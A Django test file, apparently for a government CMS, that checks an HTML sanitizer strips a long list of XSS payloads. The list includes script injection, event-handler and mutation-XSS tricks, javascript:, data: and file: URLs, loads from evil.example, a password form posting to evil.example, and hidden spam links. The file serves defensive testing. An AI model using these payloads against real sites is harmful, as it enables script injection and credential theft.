"""The sanitizer against what an attacker, or a page pasted from elsewhere, brings along."""

import time
from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from django.urls import reverse

from halaman.enums import Status
from halaman.models import Berita, Halaman, Pejabat, Tanya, VersiKonten
from halaman.periksa_isi import periksa_html
from halaman.services import restore_versi, save_konten
from halaman.struktur_isi import read_baris
from halaman.teks import ATTRIBUTES, SCHEMES, TAGS, TeksKaya, clean_html, to_plain
from tests.factories import make_konten

SERANGAN = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=/gambar/AB12/ onload=alert(1) alt=a>",
    '<img src="/gambar/AB12/" alt="a"onerror="alert(1)">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img srcset="//evil.example/x 2x" src="/gambar/AB12/" alt="a">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="a">',
    '<img src="https://evil.example/piksel.gif" alt="a">',
    '<img src="//evil.example/gambar/AB12/" alt="a">',
    '<img src="/gambar/AB12/../../admin/logout/" alt="a">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>klik</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select>"
    "<img id=x src=x onerror=alert(1)>'></a>",
    "<p>a<!--><img src=x onerror=alert(1)>--></p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<iframe src=//evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf>",
    "<applet code=x></applet><frameset onload=alert(1)><frame src=//evil.example></frameset>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="java&#10;script:alert(1)">a</a>',
    '<a href="&#x6a;avascript:alert(1)">a</a>',
    '<a href="\x01javascript:alert(1)">a</a>',
    '<a href="\u00a0javascript:alert(1)">a</a>',
    '<a href="\u2028javascript:alert(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a href="blob:https://evil.example/1">a</a>',
    '<a href="/dip/" onclick="alert(1)" onmouseover=alert(1)>a</a>',
    '<a href="/dip/" target=_blank ping=//evil.example download style="color:red">a</a>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    '<form action="//evil.example"><input name=sandi><button formaction=//e>Kirim</button></form>',
    "<input autofocus onfocus=alert(1)><select onchange=alert(1)><option>a</select>",
    "<details open ontoggle=alert(1)>a</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">a</p>',
    '<p style="background:url(javascript:alert(1))">a</p>',
    '<div style="display:none"><a href="https://judi.example/">slot gacor</a></div>',
    '<span style="font-size:0"><a href="https://judi.example/">togel</a></span>',
    '<p class="visually-hidden" id="main" hidden><a href="https://judi.example/">maxwin</a></p>',
    "<marquee onstart=alert(1)>a</marquee><font color=white>a</font>",
    "<body onload=alert(1)><p>a</p></body>",
    '<abbr title="&quot; onmouseover=alert(1) x=&quot;">a</abbr>',
    '<abbr title="<figure><table onmouseover=alert(1) x">a</abbr>',
    '<abbr title="<th><thead></thead>">a</abbr>',
    '<img alt="><img src=x onerror=alert(1)>" src="x">',
    "<img alt=\"><img alt='><img src=x onerror=alert(1)>'>\">",
    '<p lang="id&quot; onclick=&quot;alert(1)">a</p>',
    '<p is="x-jahat" contenteditable tabindex=1 accesskey=x draggable=true>a</p>',
    '<table background="//evil.example/x.gif"><tr><td background=x onclick=alert(1)>a</table>',
    '<th scope="col&quot; onclick=&quot;alert(1)">a</th>',
    '<ol start="1&quot; onclick=&quot;alert(1)"><li>a</ol>',
    "<b\x0bonclick=alert(1)>a</b><b/onclick=alert(1)>a</b>",
    "<x onclick=alert(1)>a</x><x-jahat>a</x-jahat>",
    "<custom><img src=x onerror=alert(1)></custom>",
]


class Penjaga(HTMLParser):
    """Fails at the first thing that is not on the allow-list."""

    ADDED = {"figure": {"class", "tabindex", "role", "aria-label"}, "a": {"rel"}}

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | self.ADDED.get(tag, set())
        for name, value in attrs:
            assert name in allowed, (tag, name)
            if name == "class":
                assert value == "gulir"
            if name == "src":
                assert value.startswith("/gambar/") and ".." not in value
            if name == "href":
                self.judge_address(value)

    def judge_address(self, value):
        bare = "".join(char for char in value if char.isprintable() and not char.isspace())
        scheme = bare.split(":")[0].lower() if ":" in bare.split("/")[0] else ""
        assert not scheme or scheme in SCHEMES, value
        assert "\\" not in value

    def handle_comment(self, data):
        raise AssertionError(f"comment: {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def guard(html):
    guard = Penjaga()
    guard.feed(html)
    guard.close()


@pytest.mark.parametrize("html", SERANGAN)
def test_attack_is_harmless_on_save_and_on_output(html):
    for text in (html, f"<p>{html}</p>", f"<table><tr><td>{html}", f"<ul><li>{html}</ul>"):
        saved = clean_html(text)
        guard(saved)
        guard(TeksKaya(text).__html__())
        assert clean_html(saved) == saved  # nothing appears at the second look


@pytest.mark.parametrize("html", SERANGAN)
def test_attack_is_harmless_where_the_database_was_changed_directly(html):
    shown = Template("{{ teks }}").render(Context({"teks": TeksKaya(html)}))
    assert "alert(1)>" not in shown.replace("alert(1)&gt;", "")
    guard(shown)


def test_guard_bites():
    for bad in ("<script>", "<p style=x>", "<a href=' javascript:x'>", "<!-- x -->", "<img src=x>"):
        with pytest.raises(AssertionError):
            guard(bad)


# --- Every way in ---------------------------------------------------------------------------------
JAHAT = '<p>Isi</p><script>alert(1)</script><p onclick="alert(1)">Lagi</p><iframe src=x></iframe>'
BERSIH = "<p>Isi</p><p>Lagi</p>"


@pytest.mark.parametrize(
    ("model", "name"), [(Halaman, "isi"), (Berita, "isi"), (Tanya, "isi"), (Pejabat, "profil")]
)
def test_every_rich_text_is_cleaned_by_the_service(cast, model, name):
    row = make_konten(model, cast.cipari)
    setattr(row, name, JAHAT)
    save_konten(row, None)
    row.refresh_from_db()
    assert getattr(row, name) == BERSIH
    assert VersiKonten.objects.get(objek=row.pk).isian[name] == BERSIH


def test_form_of_the_admin_stores_clean_text(cast, visit):
    given = {"judul": "Judul", "bagian": "profil", "isi": JAHAT}
    client = visit(cast.cipari, cast.ani)
    client.post(reverse("admin:halaman_halaman_add"), given)
    assert Halaman.objects.get().isi == BERSIH


def test_form_shows_stored_text_as_text(cast, visit):
    row = make_konten(Halaman, cast.cipari)
    Halaman.objects.filter(pk=row.pk).update(isi="</textarea><script>alert(1)</script>")
    page = visit(cast.cipari, cast.ani).get(reverse("admin:halaman_halaman_change", args=[row.pk]))
    assert "<script>alert" not in page.text


def test_old_version_comes_back_clean(cast):
    row = make_konten(Halaman, cast.cipari, status=Status.DRAF)
    old = VersiKonten.objects.create(
        situs=cast.cipari,
        jenis="halaman",
        objek=row.pk,
        kode=row.kode,
        versi=1,
        peristiwa="diubah",
        isian={"isi": JAHAT},
    )
    restore_versi(row, old, None)
    row.refresh_from_db()
    assert row.isi == BERSIH


def test_comparing_versions_shows_an_attack_as_text(cast, visit):
    row = make_konten(Halaman, cast.cipari)
    for number, isi in enumerate(("<p>Isi</p>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")):
        VersiKonten.objects.create(
            situs=cast.cipari,
            jenis="halaman",
            objek=row.pk,
            kode=row.kode,
            versi=number,
            peristiwa="diubah",
            isian={"isi": isi, "judul": "<img src=x onerror=alert(1)>"},
        )
    url = reverse("admin:halaman_halaman_bandingkan", args=[row.pk])
    page = visit(cast.cipari, cast.ani).get(url).text
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "alert(1)" in page


# --- What must stay -------------------------------------------------------------------------------
BIASA = (
    "<h2>Layanan</h2><p>Buka <strong>tiap</strong> <em>hari</em> kerja.<br>Bawa KTP.</p>"
    '<ul><li>KTP</li><li>KK</li></ul><ol start="3"><li>Antre</li></ol>'
    '<blockquote><p>Kutipan</p></blockquote><p><a href="/dip/">DIP</a> '
    '<a href="mailto:a@b.go.id">surat</a> <a href="tel:112">112</a> <a href="#isi">isi</a></p>'
    '<figure><img src="/gambar/AB12/" alt="Loket" width="900" height="600">'
    "<figcaption>Loket</figcaption></figure>"
)


def test_ordinary_text_stays_as_it_is():
    assert clean_html(BIASA) == BIASA


def test_pasted_headings_and_bold_get_their_proper_tags():
    assert clean_html("<h1>A</h1><h5>B</h5><p><b>C</b><i>D</i></p>") == (
        "<h2>A</h2><h4>B</h4><p><strong>C</strong><em>D</em></p>"
    )


def test_header_cells_say_what_they_head():
    table = (
        "<table><thead><tr><th>Bulan</th></tr></thead><tbody><tr><th>Mei</th></tr></tbody></table>"
    )
    clean = clean_html(table)
    assert '<th scope="col">Bulan</th>' in clean and '<th scope="row">Mei</th>' in clean
    assert clean_html(clean) == clean


@pytest.mark.parametrize(
    ("address", "outside"),
    [
        ("https://lain.example/", True),
        ("HTTP://lain.example/", True),
        ("//lain.example/", True),
        ("/\t/lain.example/", True),
        ("/dip/", False),
        ("#isi", False),
        ("mailto:a@b.go.id", False),
    ],
)
@pytest.mark.parametrize("lang", ["", ' lang="en"'])
def test_links_that_lead_away_are_marked(address, outside, lang):
    for html in (f'<a href="{address}"{lang}>a</a>', f'<a{lang} href="{address}">a</a>'):
        shown = TeksKaya(html).__html__()
        assert ('rel="nofollow noopener ugc"' in shown) == outside, shown


def test_words_of_rich_text():
    assert to_plain("<ul><li>KTP<ul><li>asli</li></ul></li></ul>a<hr>b<br>c") == "KTP asli a b c"
    assert to_plain("<h2>Satu</h2><p>dua&nbsp;&amp; <b>ti</b>ga</p>") == "Satu dua & tiga"


BERAT = [
    "<",
    "<a ",
    "<!--",
    "<?",
    "&",
    '<a href="',
    "<b>",
    "<table><td>",
    "<thead>",
    "[isi:",
    "AA ",
]


@pytest.mark.parametrize("part", [BIASA, *BERAT])
def test_no_text_takes_long_to_read(part):
    """100 KB through every reader of rich text, in seconds of our own work."""
    text = (part * 100_000)[:100_000]
    begin = time.process_time()
    for read in (clean_html, periksa_html, read_baris, to_plain, lambda x: TeksKaya(x).__html__()):
        read(text)
    assert time.process_time() - begin < 10
